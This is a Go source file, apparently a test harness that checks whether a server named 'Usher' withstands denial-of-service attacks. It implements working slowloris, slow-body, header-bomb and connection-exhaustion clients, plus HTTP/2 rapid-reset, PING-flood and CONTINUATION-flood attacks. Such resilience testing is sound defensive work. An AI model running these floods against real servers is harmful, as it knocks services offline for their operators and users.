//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// onConn connects as client i and calls do until the attack ends; then the connection is closed, which ends what do waits for.
func onConn(ctx context.Context, i int, port string, do func(net.Conn) error) error {
	conn, err := dialFrom(ctx, source(i), port)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	return do(conn)
}

// untilClosed waits for the end of a connection.
func untilClosed(conn net.Conn) error {
	_, err := io.Copy(io.Discard, conn)
	return err
}

func slowHead(ctx context.Context, i int) error {
	return onConn(ctx, i, "80", func(conn net.Conn) error {
		if _, err := fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: ", othersHost); err != nil {
			return err
		}
		for pauseOr(ctx, 500*time.Millisecond) {
			if _, err := conn.Write([]byte("a")); err != nil {
				return err
			}
		}
		return nil
	})
}

func slowBody(ctx context.Context, i int) error {
	return onConn(ctx, i, "80", func(conn net.Conn) error {
		if _, err := fmt.Fprintf(conn, "POST /attacked/upload HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n", othersHost); err != nil {
			return err
		}
		return untilClosed(conn)
	})
}

// slowReader reads nothing; that it was reset it learns when it tries to write.
func slowReader(ctx context.Context, i int) error {
	return onConn(ctx, i, "80", func(conn net.Conn) error {
		if _, err := fmt.Fprintf(conn, "GET /attacked/endless HTTP/1.1\r\nHost: %s\r\n\r\n", othersHost); err != nil {
			return err
		}
		for pauseOr(ctx, 500*time.Millisecond) {
			if _, err := conn.Write([]byte("\r\n")); err != nil {
				return err
			}
		}
		return nil
	})
}

func headerBomb(ctx context.Context, i int) error {
	defer pauseOr(ctx, 100*time.Millisecond)
	return onConn(ctx, i, "80", func(conn net.Conn) error {
		_, _ = fmt.Fprintf(conn, "GET / HTTP/1.1\r\nHost: %s\r\n%s\r\n", othersHost, strings.Repeat("X-Bomb: "+strings.Repeat("b", 1000)+"\r\n", 1000))
		return untilClosed(conn)
	})
}

func silent(port string) func(context.Context, int) error {
	return func(ctx context.Context, i int) error { return onConn(ctx, i, port, untilClosed) }
}

// insistent says nothing either, and comes again when it is turned away.
func insistent(ctx context.Context, i int) error {
	defer pauseOr(ctx, 50*time.Millisecond)
	return onConn(ctx, i, "80", untilClosed)
}

// onHTTP2 is onConn with HTTP/2 over TLS begun; nothing is read unless do does.
func onHTTP2(ctx context.Context, i int, do func(*http2.Framer, net.Conn) error) error {
	return onConn(ctx, i, "443", func(raw net.Conn) error {
		conn := tls.Client(raw, &tls.Config{ServerName: othersHost, InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // Usher's own, self-signed
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return err
		}
		framer := http2.NewFramer(conn, conn)
		if err := framer.WriteSettings(); err != nil {
			return err
		}
		return do(framer, conn)
	})
}

// head is the fields of a GET, encoded; without a table, so that it can be sent again and again.
func head() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", "/"}, {":authority", othersHost}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // into memory
	}
	return b.Bytes()
}

func rapidReset(ctx context.Context, i int) error {
	return onHTTP2(ctx, i, func(f *http2.Framer, conn net.Conn) error {
		go func() { _ = untilClosed(conn) }()
		block := head()
		for id := uint32(1); ; {
			for range 10 {
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
					return err
				}
				if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
					return err
				}
				id += 2
			}
			if !pauseOr(ctx, 20*time.Millisecond) {
				return nil
			}
		}
	})
}

func pingFlood(ctx context.Context, i int) error {
	return onHTTP2(ctx, i, func(f *http2.Framer, _ net.Conn) error {
		for pauseOr(ctx, 20*time.Millisecond) {
			for range 20 {
				if err := f.WritePing(false, [8]byte{}); err != nil {
					return err
				}
			}
		}
		return nil
	})
}

func continuation(ctx context.Context, i int) error {
	return onHTTP2(ctx, i, func(f *http2.Framer, conn net.Conn) error {
		closed := make(chan error, 1)
		go func() { closed <- untilClosed(conn) }()
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head(), EndStream: true}); err != nil {
			return err
		}
		var b bytes.Buffer
		if err := hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 8000), Sensitive: true}); err != nil {
			return err
		}
		for pauseOr(ctx, 10*time.Millisecond) {
			if err := f.WriteContinuation(1, false, b.Bytes()); err != nil {
				return err
			}
		}
		return <-closed
	})
}
